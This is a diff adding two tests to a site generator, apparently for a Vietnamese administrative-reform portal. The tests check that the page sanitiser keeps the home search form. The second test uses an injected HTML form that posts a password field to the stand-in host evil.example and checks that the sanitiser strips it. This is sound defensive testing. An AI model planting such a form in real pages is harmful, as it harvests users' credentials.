@@ -209,3 +209,22 @@ def test_editor_and_loader_agree_on_nil_and_ranges(extra: str, accepted: bool,
                           front_matter=True)
     assert (not problems.errors) == accepted, problems.format()
     assert schema_accepts("bao-cao.schema.json", text) == accepted
+
+
+def test_the_home_page_keeps_its_search_box(site: Path) -> None:
+    """The home search form (issue 15) is cchc's own markup; the page sanitiser (issue 14)
+    removed it, leaving a stray «Tìm thủ tục» label. It is put back after cleaning."""
+    home = article(site, "")
+    form = home.select_one("form.cchc-home-search[action='tim-kiem/'][method='get']")
+    assert form is not None and form.select_one("input[name=q][type=search]") is not None
+    assert form.select_one("button[type=submit]") is not None
+    assert len(home.select("form")) == 1
+
+
+def test_staff_text_cannot_spell_the_search_box_slot() -> None:
+    from generator.site.sanitize import clean_page
+    staff = '<p>UBND <form action="https://evil.example/"><input name="pw"></form></p>'
+    page = f"<h1>Cải cách hành chính</h1>\n<!--cchc:home-search-->\n{staff}<!--cchc:home-search-->"
+    cleaned = clean_page(page, "index.md")
+    assert cleaned.count("<form") == 1 and "evil" not in cleaned and 'name="pw"' not in cleaned
+    assert "<form" not in clean_page(page, "thu-tuc/index.md")
